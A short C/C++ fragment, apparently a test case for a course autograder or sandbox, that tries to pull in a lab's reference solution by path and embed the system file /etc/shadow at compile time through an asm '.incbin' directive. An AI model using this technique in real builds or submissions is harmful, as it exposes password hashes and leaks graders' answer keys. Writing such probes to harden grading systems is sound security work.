// A09: includes the reference solution and a system secret by their paths
#include "@ROOT@/solutions/lab3_cuda/vecaddcpu.cpp"
asm(".incbin \"/etc/shadow\"");
